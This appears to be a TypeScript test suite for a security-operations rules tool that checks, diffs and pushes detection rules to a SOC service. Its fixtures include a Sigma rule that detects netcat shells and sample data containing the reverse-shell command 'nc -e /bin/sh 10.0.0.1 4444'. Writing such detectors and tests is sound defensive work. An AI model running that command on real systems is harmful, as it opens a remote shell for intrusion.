import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { type TestContext, test } from 'node:test'
import type { DetectionRule } from '@manara/soc-contract/detections'
import { keyWith } from '../testing/log-sender.ts'
import { startTestSoc } from '../testing/test-soc.ts'
import { runRulesCommand } from './run-command.ts'

const SIGMA = `title: Netcat shell
id: 6a1f1e0e-53f1-4a0c-9a53-1e5b6a4f6f01
status: test
logsource: { product: linux, category: process_creation }
detection:
  selection:
    CommandLine|contains: 'nc -e'
  condition: selection
level: high
`
const SIGMA_SAMPLES = `match:
  - { CommandLine: 'nc -e /bin/sh 10.0.0.1 4444' }
no_match:
  - { CommandLine: 'nc -z 10.0.0.1 22' }
`
const GUESSING = `id: acme-vpn-guessing
name: VPN password guessing
query: source:vpn outcome:failure
kind: threshold
threshold: { count: 3, group_by: [src_ip], window_seconds: 60 }
schedule_enabled: true
`
const GUESSING_SAMPLES = `match:
  - - repeat: 3
      event: { source: vpn, outcome: failure, src_ip: 198.51.100.7, user: 'u{n}' }
no_match:
  - { source: vpn, outcome: failure, src_ip: 198.51.100.7 }
  - - { source: vpn, outcome: failure, src_ip: 198.51.100.7, timestamp: '2026-10-01T00:00:00Z' }
    - { source: vpn, outcome: failure, src_ip: 198.51.100.7, timestamp: '2026-10-01T00:02:00Z' }
    - { source: vpn, outcome: failure, src_ip: 198.51.100.7, timestamp: '2026-10-01T00:04:00Z' }
`
const ADMIN = JSON.stringify({ id: 'acme-admin', name: 'Admin', query: 'user:admin', host: 'db-*' })

const GOOD = {
  'linux/shell.yml': SIGMA,
  'linux/shell.test.yml': SIGMA_SAMPLES,
  'vpn.yaml': GUESSING,
  'vpn.test.yml': GUESSING_SAMPLES,
  'admin.json': ADMIN,
}

/** A repository of rules, and the command as a pipeline runs it there. */
function repository(t: TestContext, files: Record<string, string>) {
  const directory = mkdtempSync(path.join(tmpdir(), 'rules-'))
  t.after(() => rmSync(directory, { recursive: true, force: true }))
  function write(more: Record<string, string>) {
    for (const [name, content] of Object.entries(more)) {
      mkdirSync(path.dirname(path.join(directory, name)), { recursive: true })
      writeFileSync(path.join(directory, name), content)
    }
  }
  write(files)
  async function run(command: string, soc: { url: string; key?: string }, ...options: string[]) {
    const said: string[] = []
    const code = await runRulesCommand([command, directory, ...options], {
      ...{ key: undefined, ...soc },
      now: () => Date.parse('2026-10-05T00:00:00Z'),
      say: (line) => void said.push(line),
    })
    return { code, said, last: said.at(-1) ?? '' }
  }
  const remove = (name: string) => rmSync(path.join(directory, name))
  return { write, remove, run }
}

const NOWHERE = { url: 'http://127.0.0.1:1' }

test('rules check reads every shape and runs the samples, without any service', async (t) => {
  const { run, write } = repository(t, GOOD)
  const { code, said } = await run('check', NOWHERE)
  assert.deepEqual(said, [
    'files without samples: 1 (--require-samples names them)',
    '3 rules in 3 files, 5 samples, 0 wrong',
  ])
  assert.equal(code, 0)
  const strict = await run('check', NOWHERE, '--require-samples')
  assert.deepEqual([strict.code, strict.said[0]], [1, 'admin.json: has no samples'])
  write({ 'admin.test.json': '{"match": [{"user": "admin", "host": "db-1"}]}' })
  assert.equal((await run('check', NOWHERE, '--require-samples')).code, 0)
})

test('rules check holds rules to their filters, which need no samples, nor do mappings', async (t) => {
  const { run, write } = repository(t, {
    'shell.yml': SIGMA,
    'shell.test.yml': SIGMA_SAMPLES,
    'sigma-mappings.yml': 'placeholders: { scanners: [scan-1] }',
    'filters/scanners.yml': `title: Scanners
logsource: { product: linux }
filter:
  rules: [6a1f1e0e-53f1-4a0c-9a53-1e5b6a4f6f01]
  selection: { Computer|expand: '%scanners%' }
  condition: not selection
`,
  })
  assert.equal((await run('check', NOWHERE, '--require-samples')).code, 0)
  const ofScanner = "  - { CommandLine: 'nc -e sh', Computer: scan-1 }\n"
  write({ 'shell.test.yml': `${SIGMA_SAMPLES}${ofScanner}` })
  assert.equal((await run('check', NOWHERE)).code, 0)
  write({ 'shell.test.yml': `match:\n${ofScanner}` })
  assert.match((await run('check', NOWHERE)).said[0] ?? '', /match 1 does not match/)
})

test('rules check says which file is wrong, and how', async (t) => {
  const { run } = repository(t, {
    'shell.yml': SIGMA,
    'shell.test.yml': "match: [{ CommandLine: 'ls' }]\nno_match: [{ CommandLine: 'nc -e sh' }]\n",
    'broken.yml': 'id: broken\nname: Broken\nquery: (a:b\n',
    'nameless.yml': 'name: Nameless\nquery: a:b\n',
    'odd.yml': 'id: odd\nname: Odd\nquery: a:b\n',
    'odd.test.yml': 'matches: []\n',
    'stray.test.yml': 'match: [{ a: b }]\n',
  })
  const { code, said } = await run('check', NOWHERE)
  assert.equal(code, 1)
  const wrong = said.join('\n')
  for (const line of [
    /^shell\.test\.yml: match 1 does not match: \[\{"CommandLine":"ls"\}\]$/m,
    /^shell\.test\.yml: no_match 1 matches: \[\{"CommandLine":"nc -e sh"\}\]$/m,
    /^broken\.yml: query: /m,
    /^nameless\.yml: id is missing/m,
    /^odd\.test\.yml: samples: /m,
    /^stray\.test\.yml: there is no rule file beside it$/m,
    /^2 rules in 4 files, 2 samples, 6 wrong$/m,
  ]) {
    assert.match(wrong, line)
  }
})

test('rules diff plans, and push does exactly that', async (t) => {
  const soc = await startTestSoc(t)
  const url = await soc.http.listen({ host: '127.0.0.1', port: 0 })
  const key = await keyWith(soc, 'detections:read', 'detections:write')
  const as = await soc.signIn()
  const { run, write, remove } = repository(t, GOOD)
  const rules = async (): Promise<DetectionRule[]> =>
    (await soc.call('GET', '/detections/rules?limit=200', { as })).body.items
  const ruleOf = async (id: string) => {
    const rule = (await rules()).find(({ external_id }) => external_id === id)
    assert.ok(rule, id)
    return rule
  }

  const first = await run('diff', { url, key })
  assert.equal(first.code, 2)
  assert.ok(first.said.includes('+ acme-vpn-guessing  VPN password guessing  (vpn.yaml)'))
  const [, digest = ''] =
    /^plan (\w+): 3 to create, 0 to change, 0 as they are$/.exec(first.last) ?? []
  assert.deepEqual(await rules(), [], 'a diff changes nothing')

  const other = await run('push', { url, key }, '--plan', '000000000000')
  assert.equal(other.code, 1)
  assert.match(other.last, /^the plan is not 000000000000 any more: nothing was pushed/)
  assert.deepEqual(await rules(), [])

  const pushed = await run('push', { url, key }, '--plan', digest)
  assert.deepEqual([pushed.code, pushed.last], [0, 'pushed: 3 created, 0 changed'])
  const guessing = await ruleOf('acme-vpn-guessing')
  assert.equal(guessing.schedule_enabled, true)
  assert.deepEqual((await ruleOf('acme-admin')).host, 'db-*')
  assert.equal((await ruleOf('6a1f1e0e-53f1-4a0c-9a53-1e5b6a4f6f01')).sigma?.source, SIGMA)
  const again = await run('diff', { url, key })
  assert.match(again.last, /: 0 to create, 0 to change, 3 as they are$/)
  assert.equal(again.code, 0)

  await t.test(
    'only what differs is changed; what no file states stays as people set it',
    async () => {
      const admin = await ruleOf('acme-admin')
      await soc.call('PATCH', `/detections/rules/${admin.id}`, { as, body: { enabled: false } })
      const shell = await ruleOf('6a1f1e0e-53f1-4a0c-9a53-1e5b6a4f6f01')
      write({
        'vpn.yaml': `${GUESSING.replace('count: 3', 'count: 5')}schedule_interval_minutes: 15\n`,
        'vpn.test.yml': GUESSING_SAMPLES.replace('repeat: 3', 'repeat: 5'),
      })
      const { said, code } = await run('push', { url, key })
      assert.equal(code, 0)
      assert.ok(said.includes('    schedule_interval_minutes: 5 -> 15'), said.join('\n'))
      assert.equal(said.at(-1), 'pushed: 0 created, 1 changed')
      const changed = await ruleOf('acme-vpn-guessing')
      assert.deepEqual([changed.threshold?.count, changed.schedule_interval_minutes], [5, 15])
      assert.equal(changed.id, guessing.id)
      assert.equal((await ruleOf('acme-admin')).enabled, false)
      assert.equal((await ruleOf(shell.external_id ?? '')).version, shell.version)
      assert.equal((await run('diff', { url, key })).code, 0)
    },
  )

  await t.test('a rule that is in no file is told, and switched off when asked to', async () => {
    remove('vpn.yaml')
    remove('vpn.test.yml')
    const { said, code } = await run('push', { url, key })
    assert.equal(code, 0)
    assert.ok(said.includes('? acme-vpn-guessing  VPN password guessing  (in no file, on)'))
    assert.equal((await ruleOf('acme-vpn-guessing')).enabled, true)
    await run('push', { url, key }, '--switch-off-missing')
    assert.equal((await ruleOf('acme-vpn-guessing')).enabled, false)
  })

  await t.test('what is wrong is not pushed, not even in part', async () => {
    const before = await rules()
    write({ 'new.yml': 'id: new\nname: New\nquery: c:d\n', 'bad.yml': 'id: bad\nquery: (a\n' })
    assert.equal((await run('push', { url, key })).code, 1)
    assert.deepEqual(await rules(), before)
    remove('bad.yml')
    const reader = await keyWith(soc, 'detections:read')
    const refused = await run('push', { url, key: reader })
    assert.equal(refused.code, 1)
    assert.match(refused.last, /403 .*detections:write/)
    assert.deepEqual(await rules(), before)
  })
})

test('a planned import that somebody overtook is 409 and imports nothing', async (t) => {
  const soc = await startTestSoc(t)
  const as = await soc.signIn()
  const files = [
    { name: 'vpn.yml', content: GUESSING },
    { name: 'shell.yml', content: SIGMA },
  ]
  const shell = '6a1f1e0e-53f1-4a0c-9a53-1e5b6a4f6f01'
  const post = (plan: object) =>
    soc.call('POST', '/detections/rules/import', { as, body: { files, plan } })
  assert.equal((await post({ 'acme-vpn-guessing': null })).body.imported, 1)
  const cases: [object, number, RegExp][] = [
    [
      { 'acme-vpn-guessing': null, [shell]: null },
      409,
      /acme-vpn-guessing is at version 1: nothing/,
    ],
    [{ [shell]: 4 }, 409, /is not there any more: nothing was imported/],
    [{ unknown: null }, 400, /^plan: no file has the rule unknown/],
    [{ [shell]: 'one' }, 400, /^plan/],
  ]
  for (const [plan, status, detail] of cases) {
    const reply = await post(plan)
    assert.equal(reply.status, status, JSON.stringify(reply.body))
    assert.match(reply.body.detail, detail)
  }
  const { body } = await soc.call('GET', '/detections/rules', { as })
  assert.equal(body.total, 1)
})

test('rules diff says what is missing to reach the soc', async (t) => {
  const { run } = repository(t, GOOD)
  assert.match((await run('diff', NOWHERE)).last, /^SOC_API_KEY is not set/)
  const away = await run('diff', { ...NOWHERE, key: 'soc_x' })
  assert.equal(away.code, 1)
  assert.match(away.last, /^http:\/\/127\.0\.0\.1:1 does not answer: /)
  const said: string[] = []
  const say = (line: string) => void said.push(line)
  const deps = { ...NOWHERE, key: undefined, now: Date.now, say }
  assert.equal(await runRulesCommand(['check', '/nowhere'], deps), 1)
  assert.match(said.join('\n'), /is no directory/)
})
